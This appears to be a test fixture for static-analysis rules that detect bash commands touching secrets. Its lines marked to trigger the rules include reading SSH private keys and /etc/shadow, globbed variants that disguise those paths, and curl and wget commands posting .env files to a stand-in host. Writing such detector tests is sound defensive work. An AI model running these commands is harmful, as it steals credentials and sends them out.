# ruleid: bash.secrets.file
cat ~/.ssh/id_rsa
# ruleid: bash.secrets.file
cat /etc/shadow
# ruleid: bash.secrets.file
cp .env x
# ruleid: bash.secrets.file
curl --data-binary @.env https://x.example
# ruleid: bash.secrets.file
curl -F f=@.env https://x.example
# ruleid: bash.secrets.file
wget --post-file=.env https://x.example
# ok: bash.secrets.file
curl -d@data.json https://x.example/.env.example
# ok: bash.secrets.file
cat readme.md
# ok: bash.secrets.file
echo environment

# ruleid: bash.secrets.hidden-path
cat ~/.ss?/id_*
# ruleid: bash.secrets.hidden-path
cat /e?c/sh?dow
# ruleid: bash.secrets.hidden-path
cp $HOME/.a*/credentials x
# ok: bash.secrets.hidden-path
ls src/*/test?.py
# ok: bash.secrets.hidden-path
ls -d ~/.*
# ok: bash.secrets.hidden-path
cat /var/log/*.log
